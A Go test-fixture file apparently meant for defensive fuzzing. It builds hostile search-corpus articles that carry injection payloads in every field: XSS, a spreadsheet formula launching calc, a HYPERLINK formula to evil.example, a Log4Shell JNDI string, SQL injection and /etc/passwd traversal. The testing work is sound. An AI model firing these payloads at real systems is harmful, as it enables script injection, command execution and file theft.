package server

import (
	"fmt"

	"zonesearch/corpus"
)

// payloads try to break out of what they are put into.
func payloads() []string {
	return []string{
		`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
		`</title><script>alert(1)</script>`, `</mark><script>alert(1)</script>`, `<mark>`, `</mark>`, `<mark onclick=alert(1)>x</mark>`,
		`<!--`, `-->`, `]]>`, `<![CDATA[x]]>`, `<?xml version="1.0"?>`, `<!DOCTYPE x [<!ENTITY e "y">]>`, `&e;`, `&lt;script&gt;`, `&#60;script&#62;`,
		`&amp;lt;b&amp;gt;`, `javascript:alert(1)`, `<a href="javascript:alert(1)">x</a>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`=1+1`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", `＝1+1`, `＠SUM(1)`, `'=1+1`, `=HYPERLINK("http://evil.example","x")`,
		`a;=1+1`, `a,"b",c`, `"`, `""`, `"",=1+1`, `',(`, "x\r\nTY  - BOOK\r\nER  - ", "ER  - ", "x}\n@book{y,", `}`, `{`, `\`, `\end{document}`, `\input{/etc/passwd}`,
		`%0a%0d`, `%`, `$x$`, `#`, `~^_`, "{{.}}", "{{template \"x\"}}", "${jndi:ldap://x}", `' OR 1=1 --`, "../../etc/passwd",
		"\u202egnp.exe", "\u2066x\u2069", "\u2028alert(1)\u2029", "\ufeffx", "x\u0000y", "\ufffe\uffff", "\u0085", "😀\u200d", "//evil.example", `[x](javascript:alert(1))`,
	}
}

// hostileArticles carry each payload in every field that takes it.
func hostileArticles() []*corpus.Article {
	var articles []*corpus.Article
	for i, p := range payloads() {
		articles = append(articles, &corpus.Article{
			ID: fmt.Sprintf("hostile-%d", i), Title: p + "恶意标题",
			Body:   p + fmt.Sprintf("恶意正文第%d篇。\n总投资%d亿元的%s新材料项目开工建设。", i, i+2, p) + p,
			Source: p + "恶意来源", Zone: p + "恶意开发区", City: p + "恶意市", Channel: p, PrevTitle: p, NextTitle: p, Date: "2021-03-04",
			URL: "https://example.com/" + fmt.Sprint(i) + "?x=<script>}",
		})
	}
	return articles
}
